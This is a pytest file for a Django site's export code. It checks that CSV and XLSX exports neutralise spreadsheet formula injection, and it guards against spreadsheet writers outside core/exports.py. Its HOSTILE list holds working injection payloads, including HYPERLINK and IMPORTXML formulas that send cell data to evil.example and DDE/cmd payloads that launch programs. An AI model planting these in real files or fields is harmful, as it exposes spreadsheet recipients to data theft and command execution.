"""Spreadsheet formula injection: every CSV and XLSX the site produces keeps hostile text as
text, and nothing writes a spreadsheet except core/exports.py."""

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import (
    FORMULA_PREFIXES,
    csv_chunks,
    csv_writer,
    export_csv,
    export_xlsx,
    neutralise,
)

from ..factories.attendance import registered, session_now
from ..factories.learning import course_with_lessons

ROOT = Path(__file__).resolve().parents[2]

# What people type into a name field to attack whoever opens the funder's spreadsheet.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")',
    "=cmd|' /C calc'!A0",
    "+212600000000+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '＝HYPERLINK("https://evil.example")',  # full-width equals sign
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"A0")',
]


def _dangerous(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_csv_safe(data: bytes, expected=()):
    cells = _csv_cells(data)
    assert not [cell for cell in cells if _dangerous(cell)]
    for value in expected:
        assert "'" + value in cells, value


def _assert_xlsx_safe(data: bytes, expected=()):
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.value for c in cells if c.data_type == "f" or _dangerous(c.value)]
    values = [c.value for c in cells]
    for value in expected:
        # XML turns a carriage return into a line feed on reading.
        assert "'" + value.replace("\r", "\n") in values, value


# --- The helper ------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_every_formula_starter_gets_an_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["سعاد العلوي", "Fatima Benali", "a=b", "", 5, None, 1.5])
def test_plain_values_pass_unchanged(value):
    assert neutralise(value) == value


def test_the_three_writers_neutralise_every_cell():
    rows = [[value, "ok", 3] for value in HOSTILE]
    _assert_csv_safe(export_csv(header=["name", "x", "n"], rows=rows), HOSTILE)
    _assert_csv_safe(b"".join(csv_chunks(["name", "x", "n"], rows, every=2)), HOSTILE)
    # Carriage returns and tabs survive inside a quoted CSV cell; in XLSX they stay as text too.
    _assert_xlsx_safe(export_xlsx(header=["name", "x", "n"], rows=rows), HOSTILE)
    buffer = io.StringIO()
    csv_writer(buffer).writerow(["=1+1"])
    assert buffer.getvalue().startswith("'=1+1")


def test_xlsx_drops_control_characters_instead_of_failing():
    data = export_xlsx(header=["name"], rows=[["Bad\x07Name\x00"], ["=1\x1b+1"]])
    sheet = load_workbook(io.BytesIO(data)).active
    assert [sheet.cell(2, 1).value, sheet.cell(3, 1).value] == ["BadName", "'=1+1"]


# --- Every export the site offers ----------------------------------------------------------


@pytest.fixture
def hostile_course(db, trainer_association):
    """A course whose held session has learners and walk-ins named with formulas."""
    from courses.attendance.services import attendance_mark, walk_in_add

    from ..factories.attendance import staff

    course = course_with_lessons(association=trainer_association, lessons=0)[0]
    session = session_now(
        association=trainer_association,
        course=course,
        starts_in=timedelta(days=-1),
        title=HOSTILE[0],
        venue=HOSTILE[1],
    )
    trainer = staff(trainer_association)
    for index, value in enumerate(HOSTILE):
        if index % 2:
            person = registered(session, full_name_ar=value, full_name_latin=value[:150])[0]
            attendance_mark(
                session=session,
                participant=person,
                status="present",
                method="roll_call",
                by=trainer,
            )
        else:
            walk_in_add(session=session, by=trainer, name_ar=value, name_latin=value)
    return course, session, trainer


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_attendance_exports_neutralise_names(client, hostile_course, officer, fmt):
    course, session, trainer = hostile_course
    names = [value for value in HOSTILE if not value.startswith(("\r", "\n"))]
    client.force_login(trainer)
    for url in (
        reverse("attendance:session_export", args=[session.pk, fmt]),
        reverse("attendance:course_export", args=[course.pk, fmt]),
    ):
        if "course" in url:
            client.force_login(officer)
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Disposition"].startswith("attachment")
        check = _assert_csv_safe if fmt == "csv" else _assert_xlsx_safe
        check(response.content, names[:3])


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_funder_dashboard_export_neutralises_association_names(client, funder, officer, fmt):
    from grants import services
    from organisations.models import Organisation

    from ..factories.grants import AgreementFactory, ProgrammeFactory
    from ..factories.organisations import OrganisationFactory

    programme = ProgrammeFactory(funder=funder)
    association = OrganisationFactory(
        kind=Organisation.Kind.TRAINER, name_fr=HOSTILE[0], name_ar=HOSTILE[8]
    )
    agreement = AgreementFactory(programme=programme, association=association)
    services.agreement_tranches_create(agreement=agreement)
    client.force_login(officer)
    response = client.get(reverse("grants:dashboard"), {"format": fmt})
    assert response.status_code == 200
    check = _assert_csv_safe if fmt == "csv" else _assert_xlsx_safe
    check(response.content, [HOSTILE[0]])


@pytest.mark.django_db
def test_evidence_pack_tables_neutralise_names_titles_and_labels(hostile_course, funder):
    from grants import packs
    from grants.models import ExpenseLine, TrancheRequest

    from ..factories.certificates import CertificateFactory
    from ..factories.grants import AgreementFactory, ProgrammeFactory

    course, session, _trainer = hostile_course
    _, sessions_csv = packs.sessions_member([session])
    _assert_csv_safe(b"".join(sessions_csv), [HOSTILE[0]])
    _, attendance_csv = packs.attendance_member([session], with_names=True)
    _assert_csv_safe(b"".join(attendance_csv), [HOSTILE[2]])
    certificate = CertificateFactory(
        course=course, holder_name_ar=HOSTILE[4], holder_name_latin=HOSTILE[5], course_title="@x"
    )
    _, certificates_csv = packs.certificates_member([certificate], with_names=True)
    _assert_csv_safe(b"".join(certificates_csv), [HOSTILE[4], "@x"])

    from grants import services

    agreement = AgreementFactory(
        programme=ProgrammeFactory(funder=funder), association=course.association
    )
    tranche = services.agreement_tranches_create(agreement=agreement)[1]
    request = TrancheRequest.objects.create(
        tranche=tranche, status=TrancheRequest.Status.SUBMITTED, created_by=_trainer
    )
    ExpenseLine.objects.create(
        request=request, category="venue", label=HOSTILE[3], amount=Decimal("10")
    )
    members = dict(packs.request_members(request, with_names=True))
    financial = next(
        chunks for name, chunks in members.items() if name.endswith("/financial_report.csv")
    )
    _assert_csv_safe(b"".join(financial), [HOSTILE[3]])


# --- The guard -------------------------------------------------------------------------------

SKIPPED = (".venv/", "tests/", "var/", "bench/")
# Files allowed to call the csv module themselves, each with the reason; empty this list when
# they move to core.exports.csv_writer().
ALLOWED: dict[str, str] = {}  # path -> why it may write a spreadsheet itself
WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|xlsxwriter|\.to_csv\(|\.to_excel\(")


def test_nothing_but_lms_exports_writes_a_spreadsheet():
    """A new export must go through core/exports.py (or its re-exports), where every cell is
    neutralised. This fails when ``csv.writer``/``Workbook`` appears anywhere else."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith(SKIPPED) or "/migrations/" in relative:
            continue
        if relative == "core/exports.py" or relative in ALLOWED:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if WRITERS.search(line) and not line.lstrip().startswith("#"):
                offenders.append(f"{relative}:{number}: {line.strip()}")
    assert not offenders, "Write spreadsheets with core.exports:\n" + "\n".join(offenders)
